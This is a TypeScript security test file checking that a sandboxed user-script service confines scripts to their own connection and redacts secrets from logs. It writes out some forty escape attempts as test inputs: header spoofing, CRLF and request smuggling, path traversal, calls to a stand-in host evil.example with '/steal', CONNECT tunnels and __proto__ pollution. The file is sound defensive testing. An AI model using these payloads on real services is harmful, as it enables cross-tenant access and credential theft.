import { expect } from 'chai';
import { setVariable } from '../../core/tenants/environments/variables.ts';
import { canary, sweep } from '../support/canaries.ts';
import { type Connected, createIntegration, readConnection } from '../support/connect.ts';
import { storeTenant } from '../support/stored.ts';
import { use } from '../support/use.ts';
import { startScriptedService } from '../support/user-scripts.ts';

const EVENT = 'post-connection-creation';

/**
 * A script's attempts to reach more than its own connection. The test replaces `OTHER` with the names of what belongs to others.
 */
const EXPECTED = `
const other = OTHER;
const theirs = { connectionId: other.connectionId, providerConfigKey: other.key, environmentId: other.environmentId };
const tries = {
  'a header names another connection': () => svc.get({ endpoint: '/echo', headers: { 'Connection-Id': other.connectionId } }),
  'the same in small letters': () => svc.get({ endpoint: '/echo', headers: { 'connection-id': other.connectionId } }),
  'the same in capitals': () => svc.get({ endpoint: '/echo', headers: { 'CONNECTION-ID': other.connectionId } }),
  'the same set explicitly': () => svc.get({ endpoint: '/echo', headers: { 'Svc-Proxy-Connection-Id': other.connectionId } }),
  'a header names another integration': () => svc.get({ endpoint: '/echo', headers: { 'Provider-Config-Key': other.key } }),
  'a header names another base URL': () => svc.get({ endpoint: '/echo', headers: { 'Base-Url-Override': other.url } }),
  'the same of the own host': () => svc.get({ endpoint: '/echo', headers: { 'Base-Url-Override': other.providerUrl } }),
  'a header names another host': () => svc.get({ endpoint: '/echo', headers: { Host: 'evil.example' } }),
  'two requests in one': () => svc.get({ endpoint: '/echo', headers: { a: 'b\\r\\nX-Smuggled: 1' } }),
  'two requests by a length': () => svc.post({ endpoint: '/echo', data: 'GET / HTTP/1.1', headers: { 'content-length': '0' } }),
  'two requests by a coding': () => svc.post({ endpoint: '/echo', data: '0', headers: { 'transfer-encoding': 'chunked' } }),
  'an upgrade': () => svc.get({ endpoint: '/echo', headers: { Connection: 'upgrade', Upgrade: 'websocket' } }),
  'a whole URL': () => svc.get({ endpoint: other.url + '/steal' }),
  'a whole URL in capitals': () => svc.get({ endpoint: 'HTTP://evil.example/' }),
  'a URL without scheme': () => svc.get({ endpoint: '//evil.example/steal' }),
  'a path that climbs': () => svc.get({ endpoint: '/../outside' }),
  'the same encoded': () => svc.get({ endpoint: '/%2e%2e/outside' }),
  'the same with backslashes': () => svc.get({ endpoint: '\\\\..\\\\outside' }),
  'a path of our own service': () => svc.get({ endpoint: '/../../connections' }),
  'a fragment': () => svc.get({ endpoint: '/echo#@evil.example' }),
  'a user before the host': () => svc.get({ endpoint: '@evil.example/' }),
  'a method that reads everything back': () => svc.proxy({ endpoint: '/echo', method: 'TRACE' }),
  'a tunnel': () => svc.proxy({ endpoint: 'evil.example:443', method: 'CONNECT' }),
  'a method with a line feed': () => svc.proxy({ endpoint: '/echo', method: 'GET / HTTP/1.1\\r\\nX: y' }),
  'an endpoint that is no text': () => svc.proxy({ endpoint: { toString: () => other.url } }),
  'headers with a prototype': () => svc.get({ endpoint: '/echo', headers: JSON.parse('{"__proto__": {"connection-id": "x"}}') }),
  'a request that names the connection': () => svc.get({ endpoint: '/me', connection_id: other.connectionId, ...theirs }),
  'a second argument': () => svc.proxy({ endpoint: '/me' }, { connectionId: other.connectionId }, other.environmentId),
  'getConnection of another': () => svc.getConnection(other.connectionId),
  'getConnection by an object': () => svc.getConnection(theirs),
  'getConnection with credentials': () => svc.getConnection({ credentials: true, include: ['credentials'], refresh_token: true }),
  'getIntegration of another': () => svc.getIntegration(other.key),
  'getIntegration with its app': () => svc.getIntegration({ include: ['credentials'] }),
  'getMetadata of another': () => svc.getMetadata(other.connectionId),
  'setMetadata of another': () => svc.setMetadata({ own: 1 }, other.connectionId),
  'setMetadata that names another': () => svc.setMetadata({ own: 1 }, { connection_id: other.connectionId }),
  'metadata with a prototype': () => svc.setMetadata(JSON.parse('{"__proto__": {"polluted": true}, "own": 1}')),
  'metadata with a constructor': () => svc.setMetadata({ constructor: { prototype: { polluted: true } } }),
  'metadata nested in a prototype': () => svc.updateMetadata({ a: JSON.parse('{"__proto__": {"polluted": true}}') }),
  'metadata that are too large': () => svc.setMetadata({ text: 'x'.repeat(70_000) }),
  'metadata that grow too large': async () => {
    for (const name of ['a', 'b', 'c']) await svc.updateMetadata({ [name]: 'x'.repeat(30_000) });
  },
  'metadata that are a list': () => svc.setMetadata([1]),
  'metadata with a zero': () => svc.setMetadata({ a: 'x\\u0000' }),
  'metadata with half a character': () => svc.setMetadata({ a: 'x\\ud800' }),
  'an object of the connection': () => { svc.connectionId = other.connectionId; return svc.get({ endpoint: '/me' }); },
  'a replaced svc': () => Reflect.apply(svc.get, { connectionId: other.connectionId }, [{ endpoint: '/me' }]),
};`;

/** The attempts that get a response. Whatever they name, the response is about the script's own connection. */
const OWN_RESPONSES: readonly string[] = [
  'the same set explicitly',
  'headers with a prototype',
  'a request that names the connection',
  'a second argument',
  'getConnection of another',
  'getConnection by an object',
  'getConnection with credentials',
  'getIntegration of another',
  'getIntegration with its app',
  'getMetadata of another',
  'setMetadata of another',
  'setMetadata that names another',
  'metadata with a prototype',
  'metadata nested in a prototype',
  'a replaced svc',
];

const SOURCE = `export default async (svc) => {
  ${EXPECTED}
  for (const [name, run] of Object.entries(tries)) {
    let came;
    try {
      const response = await run();
      came = { response: response?.data ?? response ?? null, path: response?.status };
    } catch (error) {
      came = { code: error.code ?? error.name, message: error.message };
    }
    svc.log(name, { came: JSON.stringify(came).slice(0, 3_000) });
  }
  return { tries: Object.keys(tries).length };
};`;

describe('what a script may reach', function () {
  const service = use(this, () => startScriptedService({ withJobs: true, env: { SVC_SCRIPT_TIMEOUT_MS: '20000' } }));
  let victim: Connected;
  let others: Readonly<Record<string, string | number>>;
  const secrets: string[] = [];

  before(async () => {
    victim = await service.connect();
    await createIntegration(service.app, service.provider, { key: 'other' });
    const tenant = await storeTenant(service.app, 'elsewhere');
    const { body } = await readConnection(service.app, victim);
    secrets.push(body.credentials.access_token, service.provider.clientSecret);
    others = {
      connectionId: victim.connectionId,
      key: 'other',
      environmentId: tenant.environmentId,
      url: service.app.url,
      providerUrl: service.provider.url,
    };
  });

  it('SBX-03: only its own connection, whatever it asks for', async () => {
    await service.deploy(EVENT, SOURCE.replace('OTHER', JSON.stringify(others)));
    const { db } = service.app.database;
    const before = await db('connections').where({ connection_id: victim.connectionId }).first('metadata', 'updated_at');
    const calls = service.provider.ledger.of('api').length;
    const own = await service.connect();
    const { credentials } = (await readConnection(service.app, own)).body;
    const { log, status } = await service.ran(EVENT);
    expect(status).to.equal('done');
    expect(log.length).to.be.at.least(40);

    const reported = log.map(({ message, facts }) => `${message}: ${JSON.stringify(facts)}`);
    for (const text of reported) {
      expect(text, text).not.to.include('polluted').and.not.to.include('"errno"').and.not.to.include('file://');
      if (!text.includes('header')) expect(text, text).not.to.include(`\\"connection_id\\":\\"${victim.connectionId}`);
    }
    const responded = log.filter(({ facts }) => JSON.stringify(facts).includes('\\"response\\"')).map(({ message }) => message);
    expect(responded, 'everything with a response was for the own connection').to.have.members(OWN_RESPONSES);

    // Every call that went out carried this connection's token, to this connection's provider, below its base URL.
    const sent = service.provider.ledger.of('api').slice(calls);
    expect(sent.length).to.be.above(0);
    for (const { headers, target } of sent) {
      expect(headers.authorization).to.equal(`Bearer ${credentials.access_token}`);
      expect(target).to.match(/^\/api\//);
      expect(headers).not.to.have.any.keys('x-smuggled', 'provider-config-key', 'upgrade');
    }
    expect(await db('connections').where({ connection_id: victim.connectionId }).first('metadata', 'updated_at')).to.deep.equal(
      before,
    );
    expect(({} as { polluted?: unknown }).polluted).to.equal(undefined);
    const row = await db('script_runs').where({ connection_id: own.connectionId }).first('log');
    expect(sweep({ log: JSON.stringify(row) })).to.deep.equal([]);
  });

  it('SBX-06: a code and a safe text about a call that fails inside the service', async () => {
    await service.deploy(
      EVENT,
      `export default async (svc) => {
         for (const name of ['getMetadata', 'getConnection', 'getIntegration', 'setMetadata', 'updateMetadata'])
           await svc[name]({ a: 1 }).then(
             () => svc.log(name, { came: 'response' }),
             ({ name: kind, code, message, status, stack, ...rest }) =>
               svc.log(name, { came: [kind, code, message, status, Object.keys(rest)], stack }),
           );
       };`,
    );
    const { db } = service.app.database;
    const before = (await service.runs(EVENT)).length;
    // The text of an internal fault, which must not reach the script.
    const untold = 'untold-8c1f';
    await db.raw(
      `create function fail() returns trigger language plpgsql as $$
       begin raise exception '% at file:///srv/core/db.ts', '${untold}'; end $$`,
    );
    await db.raw('create trigger fail before update of metadata on connections for each row execute function fail()');
    await service.connect();
    const { log, status } = await service.ran(EVENT, before + 1);
    await db.raw('drop function fail cascade');
    expect(status).to.equal('done');
    const failed = log.filter(({ facts }) => !JSON.stringify(facts).includes('"came":"response"'));
    expect(failed.map(({ message }) => message)).to.deep.equal(['setMetadata', 'updateMetadata']);
    for (const { facts } of failed) {
      expect(facts).to.have.property('came').that.deep.equals(['ScriptError', 'internal_error', 'the call failed', null, []]);
      expect(JSON.stringify(facts)).not.to.match(/untold|file:|update |insert |node_modules|core\/|\.ts/);
    }
    const isInjected = service.app.logLines.some(
      (line) => line.includes('a host function called by a script failed') && line.includes(untold),
    );
    expect(isInjected, 'the fault was logged').to.equal(true);
  });

  it('a script that reads the webhook secret, and a provider that repeats the token, put neither into a log', async () => {
    const secret = canary('webhook secret');
    await service.app.api.patch('/integrations/fake', { credentials: { webhook_secret: secret } });
    await service.deploy(
      EVENT,
      `export default async (svc) => {
         const { webhook_secret, webhook_url, connection_webhook_url } = await svc.getIntegration();
         svc.log('plain ' + webhook_secret, {
           text: 'in a text: ' + webhook_secret,
           [webhook_secret]: 1,
           webhook_url,
           connection_webhook_url,
           length: webhook_secret.length,
         });
         const { data } = await svc.get({ endpoint: '/echo' });
         svc.log('echo ' + JSON.stringify(data), { data });
         throw new svc.ScriptError('died of ' + webhook_secret + ' and ' + JSON.stringify(data));
       };`,
    );
    const before = (await service.runs(EVENT)).length;
    const { connectionId } = await service.connect();
    const { log } = await service.ran(EVENT, before + 1);
    expect(log.length).to.equal(3);
    expect(log[0]?.facts).to.include({ length: secret.length });
    expect(JSON.stringify(log[0]?.facts)).to.include('/webhook/').and.to.include(`svcConnectionId=${connectionId}`);
    await service.app.services.activity.flush();
    const operations = await service.app.database.db('operation_log').where({ connection_id: connectionId });
    expect(sweep({ log: JSON.stringify(log), operations: JSON.stringify(operations) })).to.deep.equal([]);
  });

  it('a variable that a script has read is in no log, however the script ends; short values are not redacted', async () => {
    const value = canary('variable');
    await setVariable(service.app.services, 1, { name: 'PAGER_KEY', value });
    await setVariable(service.app.services, 1, { name: 'REGION', value: 'eu-west' });
    const read = `const key = await svc.getVariable('PAGER_KEY');
      svc.log('region ' + await svc.getVariable('REGION') + ', key ' + key, { text: 'in a text: ' + key, [key]: 1 });`;
    for (const end of [
      "throw new svc.ScriptError('died of ' + key);",
      'for (const all = [];;) all.push(new Array(1e6).fill(key));',
      '',
    ]) {
      await service.deploy(EVENT, `export default async (svc) => { ${read} ${end} };`);
      const before = (await service.runs(EVENT)).length;
      const { connectionId } = await service.connect();
      const { log } = await service.ran(EVENT, before + 1);
      expect(log[0]).to.deep.include({ message: 'region eu-west, key [redacted]' });
      await service.app.services.activity.flush();
      const operations = await service.app.database.db('operation_log').where({ connection_id: connectionId });
      expect(sweep({ log: JSON.stringify(log), operations: JSON.stringify(operations) }), end).to.deep.equal([]);
      // Retries of the script would only repeat what this run has shown.
      await service.app.database.db('script_queue').delete();
    }
  });
});
